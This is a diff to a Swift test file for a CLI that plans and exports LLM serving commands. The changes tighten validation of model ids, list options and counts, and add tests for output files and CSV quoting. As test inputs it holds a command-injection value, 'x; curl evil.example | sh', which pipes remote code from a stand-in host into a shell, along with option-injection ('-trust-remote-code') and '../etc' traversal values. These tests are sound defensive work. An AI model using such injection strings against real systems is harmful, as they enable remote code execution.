@@ -5,6 +5,7 @@ import Foundation
 import PigPlanCommands
 import Planning
 import Profiles
+import Rendering
 import Testing
 
 #if canImport(Glibc)
@@ -68,10 +69,20 @@ import Glibc
             shape["name"] = "evil"
             $0["shape"] = shape
         }.write(to: models.appendingPathComponent("evil.json"), atomically: true, encoding: .utf8)
-        let request = try PlanOptions.parse(["--hw", "h200-host16", "--ctx", "32k", "--model", "evil", "--profiles-dir", dir.path,
-                                             "--batch", "1", "--k", "10", "--l", "150"]).request()
-        let line = try ExportCommand.magicPIGCommand(try Planner.plan(request), request: request)
-        #expect(line.contains("--model 'x; curl evil.example | sh #'\\'''"))
+        // An id that is no repository id never reaches an exported command: the profile is refused.
+        let refused = message {
+            _ = try PlanOptions.parse(["--hw", "h200-host16", "--ctx", "32k", "--model", "evil", "--profiles-dir", dir.path]).request()
+        }
+        #expect(refused?.contains("huggingFaceId") == true && refused?.contains("is not a Hugging Face repository id") == true)
+        for bad in ["-trust-remote-code", "", "a/b/c", "x\u{0}y", "../etc"] {
+            try edited(try ProfileStore.builtIn().model("llama-3.1-8b")) {
+                $0["huggingFaceId"] = bad
+                var shape = $0["shape"] as! [String: Any]
+                shape["name"] = "evil"
+                $0["shape"] = shape
+            }.write(to: models.appendingPathComponent("evil.json"), atomically: true, encoding: .utf8)
+            #expect(message { _ = try ProfileStore.load(directory: dir.path) }?.contains("huggingFaceId") == true, "\(bad)")
+        }
         #expect(shellQuoted("a'b") == "'a'\\''b'")
         #expect(shellQuoted("meta-llama/Llama-3.1-8B") == "meta-llama/Llama-3.1-8B")
     }
@@ -181,5 +192,39 @@ import Glibc
             .write(to: config, atomically: true, encoding: .utf8)
         let m = message { _ = try PlanOptions.parse(["--hw", "rtx4090", "--ctx", "8k", "--model-config", config.path]).request() }
         #expect(m?.contains("head_dim") == true, "\(m ?? "accepted")")
+    }
+
+    @Test func listsAndCountsAreBoundedAndNamed() throws {
+        #expect(message { _ = try SweepCommand.parse(["--hw", "h200,h200", "--ctx", "4k"]) }?.contains("--hw h200: given twice") == true)
+        #expect(message { _ = try SweepCommand.parse(["--hw", "", "--ctx", "4k"]) }?.contains("a name is empty") == true)
+        #expect(message { _ = try SweepCommand.parse(["--ctx", "4k,,8k"]) }?.contains("--ctx") == true)
+        #expect(message { _ = try ValidateCommand.parse(["--repeats", "0"]) }?.contains("--repeats 0") == true)
+        #expect(message { _ = try ValidateCommand.parse(["--repeats", "1000000000"]) }?.contains("--repeats 1000000000") == true)
+        // 64 stages for an 80-layer model: stages of 2 layers fill only 40 nodes.
+        let nodes = message {
+            var c = try PigPlanCommand.parseAsRoot(["--hw", "8xh100", "--model", "llama-3.1-70b", "--ctx", "32k", "--nodes", "64"])
+            try c.run()
+        }
+        #expect(nodes?.contains("fill only 40 nodes") == true, "\(nodes ?? "no error")")
+        let layers = message { _ = try RunCommand.parse(["--model", "smollm2-135m", "--layers", "1000000", "--ctx", "600"]).request(mode: .dense, measureQuality: false) }
+        #expect(layers?.contains("--layers 1000000") == true, "\(layers ?? "no error")")
+    }
+
+    @Test func servingCommandsGoToTheOutFile() throws {
+        let dir = try makeTemporaryDirectory("hostile")
+        defer { try? FileManager.default.removeItem(at: dir) }
+        let file = dir.appendingPathComponent("serve.sh")
+        var c = try ExportCommand.parse(["--target", "vllm", "--hw", "h200", "--ctx", "8k", "--out", file.path])
+        try c.run()
+        let text = try String(contentsOf: file, encoding: .utf8)
+        #expect(text.hasPrefix("vllm serve meta-llama/Llama-3.1-8B-Instruct"))
+        // A 240-character name is legal (NAME_MAX 255) and written whatever the temporary name.
+        let long = dir.appendingPathComponent(String(repeating: "p", count: 235) + ".json")
+        try ExportCommand.parse(["--hw", "h200", "--ctx", "8k", "--out", long.path]).run()
+        #expect(FileManager.default.fileExists(atPath: long.path))
+    }
+
+    @Test func csvQuotesNamesFromProfiles() {
+        #expect(CSV.row(["a,b", "say \"hi\"", "plain"]) == "\"a,b\",\"say \"\"hi\"\"\",plain")
     }
 }
